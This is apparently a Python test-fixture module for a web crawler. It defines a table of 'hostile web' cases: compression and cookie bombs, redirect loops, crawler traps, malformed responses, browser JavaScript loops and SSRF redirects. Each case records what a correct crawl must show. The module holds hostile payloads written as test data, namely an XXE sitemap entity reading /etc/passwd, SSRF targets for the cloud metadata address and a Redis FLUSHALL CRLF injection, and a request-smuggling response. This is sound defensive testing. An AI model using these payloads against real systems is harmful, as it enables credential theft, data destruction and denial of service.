"""The hostile web, as a table: case name -> host behaviour and what a crawl must show.

Every case has its own host (``127.0.7.N``) and is seeded at ``seed``.  After a
one-round crawl, :func:`tests.hostile.check.check_case` holds the crawl to the
case's row:

``expect`` (what must be on disk about the case, see :data:`EXPECT`), ``never_backed_off``, ``max_requests``
(requests the host may receive in all), ``max_per_path`` (how often one path may
be asked for), ``must_fetch`` (paths a correct crawl reaches), ``never_fetch``
(paths it must not ask for).  ``stage`` names the crawl the case belongs to:
``plain`` (plain stage only), ``render`` (Chromium), ``ssrf`` (SSRF guard on, reached
through the recording proxy; see :data:`SSRF_FRONT`).

The class names (``kind``) are issue 11's.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from . import behaviours as b
from .server import Behaviour, Conn

__all__ = ["CASES", "EXPECT", "Case", "SSRF_FRONT", "by_stage"]

#: What ``expect`` means: the record a crawl must leave for the case.
EXPECT = {
    "failure": "a misc/failures.jsonl record for one of its URLs, with a non-empty reason",
    "trap": "a misc/traps.jsonl record for its host",
    "cut": "a saved page whose headers record has a non-empty 'cut' list",
    "saved": "a saved page (headers record) for its seed",
    "recorded": "a failure, a trap, or a headers record with a 'cut' list",
    "handled": "saved as it is, or any of the records above (both are right for it)",
    "bounded": "no record needed (a control, or dropping it silently is right); only its bounds",
}

#: The host name (a public address literal: it needs no DNS) under which the SSRF
#: cases are reached: the crawl runs with the guard on and ``http_proxy`` pointing
#: at the recording proxy, which answers for it.  Nothing ever connects to it.
SSRF_FRONT = "93.184.215.14"


@dataclass(frozen=True)
class Case:
    name: str
    kind: str
    serve: Behaviour | None = field(repr=False)
    expect: str
    stage: str = "plain"
    mode: str = "serve"
    seed: str = "/"
    max_requests: int = 12
    max_per_path: int = 4
    must_fetch: tuple[str, ...] = ()
    never_fetch: tuple[str, ...] = ()
    #: the host answers: misc/hosts_backoff.json must not name it (item 7: keyed by host:port,
    #: a redirect target's failures charged to the target)
    never_backed_off: bool = False
    #: longest Cookie header the crawler may send this host (0: not checked); browsers
    #: keep ~180 cookies of 4 KB per host but servers refuse headers past 8-16 KB
    max_cookie_header: int = 0
    note: str = ""

    def __post_init__(self) -> None:
        assert self.expect in EXPECT, self.expect
        assert self.stage in ("plain", "render", "ssrf"), self.stage


def _to(case: str, path: str = "/") -> Behaviour:
    """A redirect to another case's host (looked up when served: ports are known then)."""
    return b.redirect(lambda conn: conn.web.url(case, path))


def _xxe(conn: Conn) -> None:
    if conn.path == "/robots.txt":
        b.robots_with_sitemap("/sitemap.xml")(conn)
    elif conn.path == "/sitemap.xml":
        canary = conn.web.url("canary", "/xxe")
        body = (f'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY pw SYSTEM "file:///etc/passwd">'
                f'<!ENTITY net SYSTEM "{canary}"><!ENTITY % ext SYSTEM "{canary}-dtd"> %ext;]>'
                f'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                f"<url><loc>{conn.host.url}/x?&pw;</loc></url><url><loc>{conn.host.url}/y?&net;</loc></url>"
                f"<url><loc>{conn.host.url}/ok</loc></url></urlset>")
        conn.reply(200, body.encode(), b.XML)
    else:
        conn.reply(200, b.html(text="xxe"), b.HTML)


def _sitemap_self(conn: Conn) -> None:
    if conn.path == "/robots.txt":
        b.robots_with_sitemap("/index.xml")(conn)
    elif conn.path in ("/index.xml", "/index2.xml"):
        conn.reply(200, b.sitemap_index([conn.host.url_for("/index.xml"), conn.host.url_for("/index2.xml"),
                                         conn.host.url_for("/index.xml?again")]), b.XML)
    else:
        conn.reply(200, b.html(text="self index"), b.HTML)


def _sitemap_file(name: str, body: bytes, ctype: str = "application/x-gzip") -> Behaviour:
    return b.routes({"/robots.txt": b.robots_with_sitemap(name), name: b.page(body, ctype)},
                    default=b.page(b.html(text="home")))


def _sitemap_bomb(conn: Conn) -> None:
    if conn.path == "/robots.txt":
        b.robots_with_sitemap("/bomb.xml.gz")(conn)
    elif conn.path == "/bomb.xml.gz":
        # a gzip *file* (no Content-Encoding): the sitemap reader inflates it itself
        conn.head(200, [("Content-Type", "application/x-gzip")])
        conn.stream(b.deflate_bomb_chunks(31, 10_240))
    else:
        conn.reply(200, b.html(text="home"), b.HTML)


def _broken_gzip() -> bytes:
    import gzip

    whole = gzip.compress(b.sitemap_xml(f"/broken-{i}" for i in range(2000)))
    return whole[: len(whole) // 2] + b"\x00garbage\xff" * 10


def _robots(body: bytes | Behaviour, ctype: str = "text/plain", links: tuple[str, ...] = ("/after",)) -> Behaviour:
    robots = body if callable(body) else b.page(body, ctype)

    def home(conn: Conn) -> None:
        # the host's name in the text: identical pages on two hosts would be one
        # page to the content-seen filter, whose links are taken from the first only
        conn.reply(200, b.html(*links, text=f"home of {conn.host.name}"), b.HTML)

    return b.routes({"/robots.txt": robots, "/": home, "/after": b.page(b.html(text="after"))})


def _dead_port_partner(conn: Conn) -> None:
    """A live host whose other port is dead: its own pages must all be fetched."""
    dead = conn.web["dead_port_other"].port
    if conn.path == "/":
        links = [f"http://{conn.host.address}:{dead}/d{i}" for i in range(6)] + [f"/p{i}" for i in range(8)]
        conn.reply(200, b.html(*links, text="live port"), b.HTML)
    elif conn.path.startswith("/p"):
        conn.reply(200, b.html(text=f"live {conn.path}"), b.HTML)
    else:
        b.NOT_FOUND(conn)


def _redirects_to_dead(conn: Conn) -> None:
    """/r{i} redirect to a dead host; /p{i} are fine: the dead host's failures are its own."""
    if conn.path == "/":
        links = [f"/r{i}" for i in range(6)] + [f"/p{i}" for i in range(8)]
        conn.reply(200, b.html(*links, text="redirector"), b.HTML)
    elif conn.path.startswith("/r"):
        conn.reply(302, b"", None, [("Location", conn.web.url("dead_refuse", conn.path))], reason="Found")
    elif conn.path.startswith("/p"):
        conn.reply(200, b.html(text=f"live {conn.path}"), b.HTML)
    else:
        b.NOT_FOUND(conn)


def _control(conn: Conn) -> None:
    pages = {"/": ("/one", "/two", "/three"), "/one": (), "/two": ("/three",), "/three": ()}
    if conn.path in pages:
        conn.reply(200, b.html(*pages[conn.path], text=f"control {conn.path}"), b.HTML)
    else:
        b.NOT_FOUND(conn)


def _robots_disallow(conn: Conn) -> None:
    if conn.path == "/robots.txt":
        conn.reply(200, b"User-agent: *\nDisallow: /secret\n", "text/plain")
    elif conn.path == "/":
        conn.reply(200, b.html("/secret/a", "/open"), b.HTML)
    else:
        conn.reply(200, b.html(text=conn.path), b.HTML)


_PLAIN: list[Case] = [
    # -- controls: a healthy, a slow-but-honest host (bounds must not cut them) ------------
    Case("control", "control", _control, "saved", must_fetch=("/", "/one", "/two", "/three")),
    Case("control_slow_steady", "control", b.steady(4096, 12_000), "saved",
         note="4 KB/s for 3 s: above any sane minimum rate"),
    Case("control_robots_disallow", "control", _robots_disallow, "saved", must_fetch=("/open",),
         never_fetch=("/secret/a",)),
    # -- compression bombs ---------------------------------------------------------------
    Case("bomb_gzip_10g", "compression bomb", b.bomb("gzip"), "failure", note="10 GB of zeros, gzip"),
    Case("bomb_deflate_10g", "compression bomb", b.bomb("deflate"), "failure"),
    Case("bomb_raw_deflate", "compression bomb", b.bomb("raw-deflate"), "failure",
         note="deflate without the zlib header (what some servers send)"),
    Case("bomb_brotli", "compression bomb", b.bomb("br"), "failure"),
    Case("bomb_nested_gzip", "compression bomb", b.bomb("gzip, gzip"), "handled", note="gzip inside gzip"),
    Case("bomb_plain_64m", "compression bomb", b.huge_plain(64), "failure", note="64 MB, no compression"),
    # -- slow drips ----------------------------------------------------------------------
    Case("drip_body", "slow drip", b.drip_body(), "failure", note="1 B/s body, Content-Length 10000"),
    Case("drip_headers", "slow drip", b.drip_headers(), "failure", note="1 B/s status line and headers"),
    Case("drip_chunked", "slow drip", b.drip_chunked(), "failure", note="one 1-byte chunk a second, for ever"),
    Case("stall_after_headers", "slow drip", b.stall_after_headers, "failure"),
    # -- dead hosts ------------------------------------------------------------------------
    Case("dead_refuse", "dead host", None, "failure", mode="refuse", max_requests=0,
         note="bound, never listening: every connect refused"),
    Case("dead_silent", "dead host", b.silent, "failure", note="accepts, reads, never answers"),
    Case("dead_close", "dead host", b.close_at_once, "failure", note="accepts and closes at once"),
    Case("dead_reset", "dead host", b.reset_at_once, "failure", note="accepts and resets at once"),
    Case("dead_blackhole", "dead host", None, "failure", mode="blackhole", max_requests=0,
         note="SYNs unanswered (full backlog): only a connect timeout ends it"),
    Case("dead_port_live", "dead host", _dead_port_partner, "saved",
         must_fetch=("/", *(f"/p{i}" for i in range(8))), max_requests=20, never_backed_off=True,
         note="same address, other port dead: this port must not be backed off (issue 11 item 7)"),
    Case("redirect_to_dead", "dead host", _redirects_to_dead, "saved",
         must_fetch=("/", *(f"/p{i}" for i in range(8))), max_requests=26, never_backed_off=True,
         note="its /r* redirect to dead_refuse: the failures are dead_refuse's, not this host's"),
    # -- header and cookie bombs -------------------------------------------------------------
    Case("headers_10k", "header bomb", b.many_headers(10_000), "recorded", note="10,000 response headers"),
    Case("header_line_1m", "header bomb", b.long_header_line(1 << 20), "failure", note="one 1 MB header line"),
    Case("header_line_70k", "over-long header line", b.long_header_line(70_000), "failure",
         note="over Twisted's line limit: reported as 'Connection was closed cleanly' today"),
    Case("status_line_100k", "over-long header line", b.raw(b"HTTP/1.1 200 " + b"O" * 100_000 + b"\r\n\r\n"), "failure"),
    Case("setcookie_10k", "cookie bomb", b.cookie_bomb(10_000, 8), "handled", max_requests=14, max_cookie_header=16_384,
         note="10,000 Set-Cookie: over 256 KiB of headers, so refused with its reason (or capped and cut)"),
    Case("cookie_big", "cookie bomb", b.cookie_bomb(60, 4000), "cut", must_fetch=("/next",), max_requests=14,
         max_cookie_header=16_384,
         note="60 cookies of 4 KB: what is sent back to /next must be bounded"),
    Case("cookie_growing", "cookie bomb", b.routes({}, prefixes={"/grow/": b.growing_cookies},
                                                  default=b.growing_cookies), "recorded",
         max_requests=24, max_cookie_header=16_384, note="one more 3 KB cookie per page, 16 pages"),
    # -- redirect loops ----------------------------------------------------------------------
    Case("redirect_self", "redirect loop", b.redirect("/"), "failure", max_per_path=46, max_requests=48,
         note="every path (robots.txt, sitemap.xml too) redirects to /: REDIRECT_MAX_TIMES per chain"),
    Case("redirect_ab", "redirect loop", b.routes({"/": b.redirect("/a"), "/a": b.redirect("/b"),
                                                   "/b": b.redirect("/a")}), "failure", max_per_path=30,
         max_requests=40),
    Case("redirect_growing", "redirect loop", b.routes({"/": b.redirect("/r?")}, prefixes={"/r": b.growing_redirect}),
         "failure", max_requests=30, note="/r?x -> /r?xx -> ...: never the same URL"),
    Case("redirect_deeper", "redirect loop", b.routes({"/": b.redirect("/g/1")}, prefixes={"/g": b.deeper_redirect}),
         "failure", max_requests=30),
    Case("redirect_pingpong_a", "redirect loop", b.routes({"/": _to("redirect_pingpong_b")}), "failure",
         max_per_path=30, max_requests=30, note="host A -> host B -> host A"),
    Case("redirect_pingpong_b", "redirect loop", b.routes({"/": _to("redirect_pingpong_a")}), "failure",
         max_per_path=30, max_requests=30),
    Case("redirect_javascript", "redirect loop", b.redirect("javascript:alert(1)"), "failure"),
    Case("redirect_no_location", "redirect loop", b.page(b"", None, status=302, reason="Found"), "saved"),
    Case("redirect_huge_location", "redirect loop", b.redirect("/" + "L" * 100_000), "failure"),
    # -- meta-refresh loops (plain stage: saved, the target extracted as a link) ----------------
    Case("refresh_self", "meta-refresh loop", b.meta_refresh("/"), "saved"),
    Case("refresh_counter", "meta-refresh loop", b.routes({}, default=b.meta_refresh(b.counter_query)), "recorded",
         max_requests=60, note="?n=1 -> ?n=2 -> ...: a DDoS-queue page that never lets go"),
    Case("refresh_header", "meta-refresh loop",
         b.page(b.html(text="wait"), headers=[("Refresh", "0; url=/")]), "saved"),
    # -- traps -------------------------------------------------------------------------------
    Case("trap_calendar", "trap", b.routes({"/": b.redirect("/cal?y=2024&m=1")}, prefixes={"/cal": b.calendar_query}),
         "trap", max_requests=60, max_per_path=60, note="query calendar, for ever both ways"),
    Case("trap_calendar_path", "trap", b.routes({"/": b.redirect("/day/2024/01/01/")},
                                                prefixes={"/day/": b.calendar_path}),
         "trap", max_requests=120, note="path calendar: a new distinct URL every day"),
    Case("trap_session_id", "trap", b.session_ids, "trap", max_requests=20, max_per_path=8,
         note="every link a fresh PHPSESSID / sid / jsessionid"),
    Case("trap_query_variants", "trap", b.routes({"/": b.redirect("/search?q=0")},
                                                 prefixes={"/search": b.query_variants}),
         "trap", max_requests=60, max_per_path=60, note="30 new ?q= variants of one path per page"),
    Case("trap_links_100k", "trap", b.many_links(100_000), "trap", max_requests=70,
         note="one page of 100,000 links"),
    Case("trap_deep_nesting", "trap", b.deep_nesting(3000), "recorded", must_fetch=("/deep-target",),
         note="a link under 3000 nested divs: extract it, or record the page as cut (item 10)"),
    Case("trap_ever_deeper", "trap", b.routes({"/": b.redirect("/d/1/")}, prefixes={"/d/": b.ever_deeper}),
         "trap", max_requests=120, note="/d/1/ -> /d/1/2/ -> ...: all distinct"),
    Case("trap_repeated_segment", "trap", b.routes({"/": b.redirect("/x/")}, prefixes={"/x/": b.repeated_segment}),
         "trap", max_requests=12, note="/x/x/x/...: cut by the segment-repeat rule; recorded?"),
    Case("trap_pagination", "trap", b.routes({"/": b.redirect("/page/1")}, prefixes={"/page/": b.pagination}),
         "trap", max_requests=120, note="endless pagination: only a per-host bound ends it"),
    # -- sitemap bombs ------------------------------------------------------------------------
    Case("sitemap_600k", "sitemap bomb", b.big_sitemap(600_000), "recorded", max_requests=60,
         note="600,000-URL gzip sitemap: streamed, capped, memory flat"),
    Case("sitemap_index_self", "sitemap bomb", _sitemap_self, "bounded", max_requests=12, max_per_path=2,
         note="an index listing itself (and a twin listing it back)"),
    Case("sitemap_broken_gzip", "sitemap bomb", _sitemap_file("/sitemap.xml.gz", _broken_gzip()), "failure",
         note="half a gzip file then garbage: 'log why a sitemap was not read' (item 10)"),
    Case("sitemap_gzip_bomb", "sitemap bomb", _sitemap_bomb, "failure", note="a .xml.gz file inflating to 10 GB"),
    Case("sitemap_xxe", "sitemap bomb", _xxe, "bounded", must_fetch=("/ok",),
         note="external entities (file:///etc/passwd, the canary): never resolved"),
    Case("sitemap_binary", "sitemap bomb", _sitemap_file("/sitemap.xml", bytes(range(256)) * 64, b.XML), "handled",
         note="binary bytes served as XML at the guessed /sitemap.xml: not a sitemap, the page still saved"),
    # -- broken robots.txt ----------------------------------------------------------------------
    Case("robots_binary", "broken robots.txt", _robots(bytes(range(256)) * 400), "saved", must_fetch=("/after",)),
    Case("robots_10mb", "broken robots.txt", _robots(b.huge_plain(10, "text/plain")), "saved",
         must_fetch=("/after",)),
    Case("robots_html", "broken robots.txt", _robots(b.html(text="<form>login</form>"), b.HTML), "saved",
         must_fetch=("/after",)),
    Case("robots_drip", "broken robots.txt", _robots(b.drip_body()), "saved", must_fetch=("/after",)),
    Case("robots_redirect_loop", "broken robots.txt", _robots(b.redirect("/robots.txt")), "saved",
         must_fetch=("/after",), max_per_path=30, max_requests=36),
    # -- bad encodings ---------------------------------------------------------------------------
    Case("enc_bad_utf8", "bad encoding", b.routes({"/": b.page(b"<html><body>\xff\xfe\xc3(<a href='/after'>a</a>"
                                                                b"\xed\xa0\x80</body></html>"),
                                                   "/after": b.page(b.html())}), "saved", must_fetch=("/after",)),
    Case("enc_utf16_nobom", "bad encoding",
         b.routes({"/": b.page('<html><body><a href="/after">a</a></body></html>'.encode("utf-16-le"), "text/html"),
                   "/after": b.page(b.html())}), "saved"),
    Case("enc_unknown_charset", "bad encoding",
         b.routes({"/": b.page(b.html("/after"), "text/html; charset=x-klingon"), "/after": b.page(b.html())}),
         "saved", must_fetch=("/after",)),
    Case("enc_conflicting", "bad encoding",
         b.routes({"/": b.page(b'<html><head><meta charset="utf-16"></head><body><a href="/after">a</a></body></html>',
                               "text/html; charset=iso-8859-1"), "/after": b.page(b.html())}),
         "saved", must_fetch=("/after",)),
    Case("enc_nul_bytes", "bad encoding",
         b.routes({"/": b.page(b"<html>\x00<body>\x00<a href='/after'>a</a>\x00</body></html>"),
                   "/after": b.page(b.html())}), "saved", must_fetch=("/after",)),
    # -- malformed HTML ----------------------------------------------------------------------------
    Case("html_unclosed", "malformed HTML",
         b.routes({"/": b.page(b"<html><body><a href='/after'>a<a href=\"/b\" <div <p <table><tr><td"),
                   "/after": b.page(b.html())}), "saved", must_fetch=("/after",)),
    Case("html_garbage", "malformed HTML", b.page(bytes(range(256)) * 100), "saved"),
    Case("html_empty", "malformed HTML", b.page(b""), "saved"),
    Case("html_huge_attribute", "malformed HTML", b.page(b'<html><body><a href="/after" title="' + b"t" * 2_000_000
                                                         + b'">a</a></body></html>'), "saved"),
    Case("html_open_comment", "malformed HTML", b.page(b"<html><body><!-- <a href='/x'>x</a>" + b"-" * 5000), "saved"),
    # -- truncated bodies and broken framing -----------------------------------------------------------
    Case("truncated_close", "truncated body", b.length_lie(then="close"), "failure",
         note="Content-Length 10000, 100 bytes, then close (no reason logged today)"),
    Case("truncated_hang", "truncated body", b.length_lie(then="hang"), "failure",
         note="Content-Length 10000, 100 bytes, then silence"),
    Case("reset_mid_body", "reset mid-body", b.length_lie(sent=3000, then="reset"), "failure"),
    Case("chunked_bad_size", "bad chunked encoding", b.bad_chunked(b"zz\r\nhello\r\n0\r\n\r\n"), "failure"),
    Case("chunked_truncated", "bad chunked encoding", b.bad_chunked(b"5\r\nhello\r\n10\r\nshort"), "failure"),
    Case("chunked_and_length", "bad chunked encoding",
         b.raw(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n"
               b"Connection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n"), "handled",
         note="both framings (smuggling): one is chosen, or it fails; either way on record"),
    Case("gzip_not_gzip", "bad framing",
         b.page(b"this is not gzip at all", headers=[("Content-Encoding", "gzip")]), "handled"),
    Case("http09", "bad framing", b.raw(b"<html><body>no status line</body></html>"), "failure"),
    Case("bad_status_line", "bad framing", b.raw(b"HTTP/1.1 abc OK\r\n\r\nbody"), "failure"),
    Case("status_999", "bad framing", b.page(b.html(), status=999, reason="Weird"), "saved"),
    Case("header_no_colon", "bad framing",
         b.raw(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nthis is not a header\r\nContent-Length: 4\r\n\r\nbody"),
         "handled"),
]

# -- the render set: loops that only a browser runs ---------------------------------------------------
_RENDER: list[Case] = [
    Case("render_control", "control", b.page(b.html(text="rendered fine")), "saved", stage="render"),
    Case("js_busy_loop", "JS loop", b.script_page("window.addEventListener('load', () => { while (true) {} });"),
         "failure", stage="render", note="busy loop after load: the renderer must be killed at the deadline"),
    Case("js_location_loop", "JS loop", b.routes({}, default=b.script_page(
        "setTimeout(() => { location.href = location.pathname + '?n=' + (Number(location.search.slice(3)) + 1) }, 10);")),
        "failure", stage="render", max_requests=40, max_per_path=6,
        note="window.location loop: cut after a few navigations"),
    Case("js_reload_loop", "JS loop", b.script_page("setTimeout(() => location.reload(), 10);"), "failure",
         stage="render", max_requests=40, max_per_path=40),
    Case("js_fetch_storm", "JS loop", b.routes({"/": b.script_page(
        "setInterval(() => { for (let i = 0; i < 20; i++) fetch('/x?' + Math.random()); }, 5);")},
        # budget 50: the requests the page issued before its halt still leave (more on a
        # loaded machine: 123 seen at load 2); uncut, it makes thousands in the render's time
        default=b.page(b"x", "text/plain")), "failure", stage="render", max_requests=400,
        note="thousands of requests a minute from one page: the render's request budget"),
    Case("render_refresh_self", "meta-refresh loop", b.meta_refresh("/"), "failure", stage="render",
         max_requests=40, max_per_path=40, note="a DDoS-queue page refreshing to itself for ever"),
    Case("render_refresh_counter", "meta-refresh loop", b.routes({}, default=b.meta_refresh(b.counter_query)),
         # one ?n=k is asked for by its plain fetch, its own render, and the renders of the
         # up to 5 pages before it (each navigates 5 hops), a render tried again once: 12
         "failure", stage="render", max_requests=250, max_per_path=12,
         note="the plain stage follows the ?n= targets as links (bounded by the query-variant cap), "
              "and each of those renders navigates a few hops"),
]


# -- the SSRF set: redirects and links to the crawler's own machine ---------------------------------------
def _ssrf_target(template: str) -> Behaviour:
    def serve(conn: Conn) -> None:
        target = template.format(canary=conn.web["canary_lo"].port, redis=conn.web["canary_redis"].port,
                                 v6=conn.web["canary_v6"].port if "canary_v6" in conn.web.hosts else 1)
        conn.reply(302, b"", None, [("Location", target)], reason="Found")

    return serve


def _ssrf_link(template: str) -> Behaviour:
    def serve(conn: Conn) -> None:
        target = template.format(canary=conn.web["canary_lo"].port)
        conn.reply(200, b.html(target, text="a link inside"), b.HTML)

    return serve


_SSRF_TARGETS = {
    "ssrf_decimal": "http://2130706433:{canary}/",
    "ssrf_hex": "http://0x7f000001:{canary}/",
    "ssrf_short": "http://127.1:{canary}/",
    "ssrf_octal": "http://0177.0.0.1:{canary}/",
    "ssrf_loopback": "http://127.0.0.1:{canary}/",
    "ssrf_localhost": "http://localhost:{canary}/",
    "ssrf_zero": "http://0.0.0.0:{canary}/",
    "ssrf_ipv6_loopback": "http://[::1]:{v6}/",
    "ssrf_v4_mapped": "http://[::ffff:127.0.0.1]:{canary}/",
    "ssrf_redis": "http://127.0.0.1:{redis}/%0D%0AFLUSHALL%0D%0A",
    "ssrf_metadata": "http://169.254.169.254/latest/meta-data/",
    "ssrf_metadata_decimal": "http://2852039166/latest/meta-data/",
    "ssrf_wildcard_dns": "http://169.254.169.254.nip.io/latest/meta-data/",
    "ssrf_private": "http://10.0.0.1/",
}

_SSRF: list[Case] = [
    Case(name, "SSRF by redirect", _ssrf_target(target), "failure", stage="ssrf", mode="virtual",
         note=f"302 to {target}") for name, target in _SSRF_TARGETS.items()
] + [
    Case("ssrf_link_decimal", "SSRF by link", _ssrf_link("http://2130706433:{canary}/linked"), "bounded",
         stage="ssrf", mode="virtual", note="a plain link to a numeric loopback spelling: never fetched"),
    Case("ssrf_control", "control", b.page(b.html(text="reached through the proxy")), "saved", stage="ssrf",
         mode="virtual"),
]

CASES: list[Case] = _PLAIN + _RENDER + _SSRF
assert len({c.name for c in CASES}) == len(CASES)


def by_stage(stage: str) -> list[Case]:
    return [case for case in CASES if case.stage == stage]
